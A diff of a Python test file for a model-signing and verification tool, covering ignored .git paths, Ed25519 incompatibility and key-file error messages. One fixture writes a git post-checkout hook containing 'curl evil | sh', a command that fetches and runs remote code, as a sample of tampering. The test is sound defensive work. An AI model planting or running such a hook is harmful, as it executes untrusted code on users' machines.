@@ -108,17 +108,15 @@ def test_missing_and_extra_files(model, keys, capsys):
     assert "tokenizer.json" in doc["message"] and "payload.py" in doc["message"]
 
 
-def test_files_hidden_in_git_folder_are_reported(model, keys, capsys):
+def test_files_under_recorded_ignore_paths_are_left_out_and_listed(model, keys, capsys):
     main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
     (model / ".git" / "hooks").mkdir(parents=True)
     (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
     rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
-    assert rc == 1
-    assert doc["extra"] == [".git/hooks/post-checkout"]
-    assert "reference tool ignores" in doc["message"]
-    # the reference tool's behaviour, on request only
-    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"), "--trust-ignore-paths")
-    assert rc == 0 and doc["valid"]
+    assert rc == 0 and doc["valid"]  # the signature records .git in ignore_paths: sign and verify agree
+    assert ".git" in doc["ignored_paths"]
+    assert doc["ignored_files"] == [".git/hooks/post-checkout"]
+    assert "not checked" in doc["message"]
 
 
 def test_tampered_payload_is_rejected(model, keys, capsys):
@@ -229,7 +227,7 @@ def test_model_signing_cannot_verify_ed25519(model, keys):
     from model_signing import verifying
 
     main(["sign", str(model), "--key", str(keys["ed25519"])])
-    with pytest.raises(Exception):
+    with pytest.raises(Exception):  # noqa: B017 - model-signing has no error type of its own for this
         verifying.Config().use_elliptic_key_verifier(public_key=Path(str(keys["ed25519"]) + ".pub")).verify(
             model, model / "model.sig")
 
@@ -294,4 +292,5 @@ def test_keygen_unwritable_path_is_named(tmp_path, capsys):
     target = blocker / "key.pem"
     assert main(["keygen", "--out", str(target)]) == 2
     err = capsys.readouterr().err
-    assert err.startswith(f"error: cannot write key file {target}:") and len(err.strip().splitlines()) == 1
+    assert err.startswith(f"error: --out {target}: {blocker} is a file, not a folder")
+    assert len(err.strip().splitlines()) == 1
